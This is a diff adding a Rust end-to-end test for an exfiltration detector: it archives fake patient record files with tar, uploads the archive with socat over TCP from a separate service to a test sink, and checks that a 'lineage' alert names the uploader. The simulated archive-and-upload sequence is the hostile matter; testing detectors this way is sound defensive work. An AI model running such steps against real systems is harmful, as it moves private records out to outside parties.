@@ -170,6 +170,66 @@ fn reading_a_secret_then_sending_it_out_is_lineage() {
 }
 
 #[test]
+fn an_archive_of_records_uploaded_by_another_process_is_lineage_naming_records() {
+    require_root();
+    let ns = NetNs::outside().expect("namespace");
+    let dir = fresh_dir("records");
+    let records = dir.join("pgdata");
+    std::fs::create_dir_all(&records).expect("mkdir");
+    for i in 0..3u8 {
+        write_file(&records.join(format!("patients.{i}")), 4 << 20, i);
+    }
+    let archive = dir.join("dump.tar");
+    let agent = Agent::start_with_interval(
+        INTERVAL,
+        &format!("[files]\nrecords = [\"{}\"]\n", records.display()),
+    )
+    .expect("agent");
+    // An intruder's shell archives the records with tar ...
+    let shell = ServiceCgroup::create("exfil-e2e-shell.service").expect("cgroup");
+    let mut tar = Command::new("tar");
+    tar.arg("cf").arg(&archive).arg("-C").arg(&records).arg(".");
+    shell.place(&mut tar).expect("place tar");
+    let status = tar.status().expect("tar runs");
+    assert!(status.success(), "tar: {status}");
+    let size = std::fs::metadata(&archive).expect("archive").len();
+    // ... and, a few polls later, socat in another service uploads the archive: a separate
+    // program that never read the records.
+    std::thread::sleep(exfil_tests::POLL * 3);
+    let uploader = ServiceCgroup::create("exfil-e2e-upload.service").expect("cgroup");
+    let (mut sink, port) = traffic!().sink(&ns, "tcp", ns.peer_ip).expect("sink");
+    let mut socat = Command::new("socat");
+    socat
+        .arg("-u")
+        .arg(format!("OPEN:{}", archive.display()))
+        .arg(format!("TCP:{}", socket_addr(ns.peer_ip, port)));
+    uploader.place(&mut socat).expect("place socat");
+    let upload = Proc::spawn(socat, "socat").expect("socat");
+    let socat_pid = upload.pid();
+    upload.finish().expect("socat uploads the archive");
+    assert_eq!(sink.expect_line::<u64>("received").expect("received"), size);
+    let alert = wait_for(&agent, Duration::from_secs(20), |a| a.kind == "lineage")
+        .expect("a lineage alert");
+    assert_eq!(
+        (
+            alert.service.as_str(),
+            alert.destination.as_str(),
+            alert.pid,
+            alert.bytes,
+            alert.class.as_deref()
+        ),
+        (
+            "exfil-e2e-upload.service",
+            ns.peer_ip,
+            socat_pid,
+            size,
+            Some("records")
+        )
+    );
+    std::fs::remove_dir_all(&dir).expect("cleanup");
+}
+
+#[test]
 fn loopback_transfers_and_ordinary_reads_raise_nothing() {
     require_root();
     const LOOPBACK: u64 = 300 << 20;
